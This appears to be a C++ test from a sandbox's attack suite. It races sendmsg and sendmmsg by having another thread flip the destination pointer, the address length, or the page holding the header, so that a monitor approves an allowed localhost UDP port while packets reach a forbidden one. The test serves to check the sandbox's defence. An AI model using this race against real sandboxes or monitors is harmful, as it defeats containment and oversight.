// attack: msghdr-nested-race
// class: races
// severity: critical
// models: naive canonical
// trap: sendmsg takes a struct that points to an address that another thread exchanges: the msg_name
//   pointer flips between two addresses, msg_namelen between two families' sizes, or the page with the
//   struct goes and comes, so that the monitor's read fails.
// naive: Reads the same field twice; or a failed read lets the call go on.
// kernel: copy_msghdr_from_user copies the header, then follows its pointers.
// sealed: Header, address and vectors are copied once, nested pointers rewritten to the copies.
// source: Watson, WOOT 2007; sandlock#28, #97
// time: 4000
// policy:
//   path allow read,execute /usr/**
//   path allow $T/
//   network allow udp connect,send 127.0.0.1:$OK_UDP
// report: 127.0.0.1:$UDP
#include <atomic>
#include <thread>

#include "tests/support/attack.h"

namespace attack {
namespace {

enum class Flip { Name, Length, Page };
constexpr struct {
  Flip flip;
  const char* name;
} kWays[] = {{Flip::Name, "msg_name"}, {Flip::Length, "msg_namelen"}, {Flip::Page, "its page"}};

// A page that is there at one moment and not at the next.
void come_and_go(void* page) {
  ::mprotect(page, 4096, PROT_NONE);
  ::mprotect(page, 4096, PROT_READ | PROT_WRITE);
}

// Of Flip::Length the address is that of the forbidden port, and is none when it is given no length
// (the socket then is connected to the allowed one).
long race(Flip what, int good_port, int bad_port) {
  static sockaddr_in good;
  static sockaddr_in bad;
  good = v4("127.0.0.1", good_port);
  bad = v4("127.0.0.1", bad_port);
  static char byte = 'x';
  static iovec vector{&byte, 1};
  auto* page = static_cast<mmsghdr*>(
      ::mmap(nullptr, 4096, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0));
  must(page != MAP_FAILED, "mmap");
  mmsghdr& message = *page;
  message.msg_hdr.msg_name = what == Flip::Name ? &good : &bad;
  message.msg_hdr.msg_namelen = sizeof good;
  message.msg_hdr.msg_iov = &vector;
  message.msg_hdr.msg_iovlen = 1;
  auto* name = const_cast<void* volatile*>(&message.msg_hdr.msg_name);
  auto* length = const_cast<volatile socklen_t*>(&message.msg_hdr.msg_namelen);
  std::atomic<bool> stop{false};
  std::thread other([&] {
    while (!stop.load(std::memory_order_relaxed)) {
      switch (what) {
        case Flip::Name:
          *name = &bad;
          *name = &good;
          break;
        case Flip::Length:
          *length = sizeof bad;
          *length = 0;
          break;
        case Flip::Page:
          come_and_go(page);
          break;
      }
    }
  });
  int s = ::socket(AF_INET, SOCK_DGRAM, 0);
  if (what == Flip::Length) {
    must(::connect(s, as_sockaddr(good), sizeof good) == 0, "connect");
  }
  long sent = 0;
  for (Stopwatch watch; watch.running() && sent < 100000;) {
    if (::sendmsg(s, &message.msg_hdr, 0) == 1) ++sent;
    if (::sendmmsg(s, &message, 1, 0) == 1) ++sent;
  }
  stop = true;
  other.join();
  return sent;
}

}  // namespace

// The prey is the contact, which only the driver sees.
void strike() {
  for (const auto& [flip, name] : kWays) {
    if (!way(name)) continue;
    const long sent = race(flip, number("ATTACK_OK_UDP"), number("ATTACK_UDP"));
    std::printf("sent %ld\n", sent);
    must(sent > 0 || flip == Flip::Page, "none got through");
  }
  errno = 0;
  held("the listener will tell");
}

void twin() {
  int port = number("ATTACK_OK_UDP");
  for (const auto& [flip, name] : kWays) must(race(flip, port, port) > 20, name);
  int s = ::socket(AF_INET, SOCK_DGRAM, 0);
  must(::sendmsg(s, reinterpret_cast<msghdr*>(8), 0) == -1 && errno == EFAULT,
       "bad header is EFAULT");
  sockaddr_in address = v4("127.0.0.1", port);
  msghdr message{};
  message.msg_name = &address;
  message.msg_namelen = sizeof address;
  message.msg_iov = reinterpret_cast<iovec*>(8);
  message.msg_iovlen = 1;
  must(::sendmsg(s, &message, 0) == -1 && errno == EFAULT, "bad vector is EFAULT");
  twin_ok();
}

}  // namespace attack
